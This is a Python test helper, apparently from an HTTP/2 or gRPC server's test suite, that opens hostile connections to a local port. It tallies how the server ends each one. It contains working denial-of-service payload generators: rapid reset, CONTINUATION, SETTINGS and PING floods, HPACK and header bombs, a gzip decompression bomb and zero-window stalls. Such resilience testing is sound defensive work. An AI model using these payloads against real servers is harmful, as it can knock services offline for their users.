#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Peers that mean harm, in a process of their own so that they cost the test nothing but a core.

  h2_attacks.py <port> <attack>       until stdin ends

Prints {"rounds": n, "ends": {"<code> <text of the GOAWAY>": n}}; "" stands for connections that were
not ended by the server.
"""
import collections
import gzip
import json
import select
import struct
import sys

from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INFER, PING, PREFACE,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, Raw, field, frame, head)

GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
N_STREAMS = 200


def prefixed(message, flag=0):
    return bytes([flag]) + struct.pack(">I", len(message)) + message


def body(stream, payload, ends=True):
    """A stream's DATA, in frames of 16 KiB."""
    pieces = [payload[at:at + 16384] for at in range(0, len(payload), 16384)]
    return b"".join(frame(DATA, END_STREAM if ends and i == len(pieces) - 1 else 0, stream, piece)
                    for i, piece in enumerate(pieces))


def rapid_reset():
    return b"".join(frame(HEADERS, END_HEADERS, i, head(INFER)) +
                    frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in range(1, 6001, 2))


def continuation_flood():
    return frame(HEADERS, 0, 1) + frame(CONTINUATION, 0, 1, field("a", "b")) * 10000


def settings_flood():
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 20000


def ping_flood():
    return frame(PING, 0, 0, bytes(8)) * 20000


def hpack_bomb():
    """One field of 4000 bytes in the dynamic table, and 16000 references to it, a byte each."""
    name, value = b"x", b"y" * 4000
    literal = b"\x40\x01" + name + b"\x7f" + varint(len(value) - 127) + value
    block = head(INFER) + literal + b"\xbe" * 12000
    return frame(HEADERS, END_HEADERS, 1, block)


def varint(n):
    """The rest of a number whose prefix is full (RFC 7541, 5.1)."""
    out = b""
    while n >= 128:
        out += bytes([n % 128 + 128])
        n //= 128
    return out + bytes([n])


def header_bomb():
    """As many fields as fit in the frames that a header block may have, on many streams."""
    fields = field("abc", "d" * 60) * 230
    assert len(fields) < 16384
    return b"".join(frame(HEADERS, 0, i, head(INFER)) + frame(CONTINUATION, 0, i, fields) * 4 +
                    frame(CONTINUATION, END_HEADERS, i, fields) for i in range(1, 41, 2))


def declared_bomb():
    """Messages of 60 MiB, they say, of which a few bytes come."""
    return b"".join(frame(HEADERS, END_HEADERS, i, head(INFER)) +
                    frame(DATA, 0, i, b"\0" + struct.pack(">I", 60 << 20) + bytes(100))
                    for i in range(1, 2 * N_STREAMS, 2))


def compressed_bomb():
    packed = gzip.compress(bytes(200 << 20))
    return b"".join(frame(HEADERS, END_HEADERS, i, head(INFER, **{"grpc-encoding": "gzip"})) +
                    body(i, prefixed(packed, 1)) for i in range(1, 9, 2))


def large_request(model=b"any"):
    def part(number, payload):
        return bytes([number << 3 | 2]) + varint(len(payload)) + payload

    values = bytes(1 << 20)
    tensor = part(1, b"INPUT0") + part(2, b"FP32") + part(3, varint(len(values) // 4))
    return part(1, model) + part(5, tensor) + part(7, values)


def large_calls(model=b"any"):
    message = prefixed(large_request(model))
    return b"".join(frame(HEADERS, END_HEADERS, i, head(INFER)) + body(i, message)
                    for i in range(1, 2 * N_STREAMS, 2))


def zero_window():
    """Answers of 1 MiB each, which are never read; the window of each stream is and stays 0."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + large_calls()


ATTACKS = [rapid_reset, continuation_flood, settings_flood, ping_flood, hpack_bomb, header_bomb,
           declared_bomb, compressed_bomb, zero_window]
# These leave their connection open, and wait: that is the attack.
PATIENT = {declared_bomb, zero_window}


class Port:
    def __init__(self, number):
        self.number = number

    def port(self, _):
        return self.number


def is_over(seconds=0):
    return bool(select.select([sys.stdin], [], [], seconds)[0])


def split(text):
    """Frames, and what each takes of the connection's window."""
    at = 0
    while at < len(text):
        end = at + 9 + int.from_bytes(text[at:at + 3], "big")
        yield text[at:end], end - at - 9 if text[at + 3] == DATA else 0
        at = end


class Window:
    """Of the connection; an attacker that does not keep to it is ended at once."""

    def __init__(self, raw):
        self.socket = raw.socket
        self.left = 65535
        self.unread = b""
        self.n_ended = 0  # streams

    def read(self, seconds):
        """What the server says within that time; False at its end."""
        if not select.select([self.socket], [], [], seconds)[0]:
            return True
        more = self.socket.recv(1 << 20)
        self.unread += more
        while len(self.unread) >= 9:
            end = 9 + int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < end:
                break
            if self.unread[3] == WINDOW_UPDATE and self.unread[5:9] == bytes(4):
                self.left += int.from_bytes(self.unread[9:13], "big")
            elif self.unread[3] == HEADERS and self.unread[4] & END_STREAM:
                self.n_ended += 1
            self.unread = self.unread[end:]
        return more != b""


def drip(raw, text):
    """Sends what the server's window lets through, and holds on. What the server ends says True."""
    window = Window(raw)
    try:
        for piece, cost in split(text):
            while cost > window.left:
                if is_over():
                    return False
                if not window.read(0.1):
                    return True
            window.left -= cost
            raw.socket.sendall(piece)
        while not is_over():
            if not window.read(0.1):
                return True
    except OSError:
        return True
    return False


def main():
    port = Port(int(sys.argv[1]))
    attack = next(a for a in ATTACKS if a.__name__ == sys.argv[2])
    text = attack()
    ends = collections.Counter()
    n_rounds = 0
    print("ready", flush=True)
    while not is_over():
        with Raw(port, greeting=GREETING) as raw:
            n_rounds += 1
            if attack in PATIENT:
                ends["0 ended" if drip(raw, text) else ""] += 1
                continue
            raw.send(text)
            raw.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 20)))
            raw.socket.settimeout(0.2)
            try:
                last = raw.goaway()
            except TimeoutError:
                last = None  # the server goes on: what came was refused call by call
            ends[f"{last[0]} {last[1]}" if last else ""] += 1
    print(json.dumps({"rounds": n_rounds, "ends": ends}), flush=True)


if __name__ == "__main__":
    main()
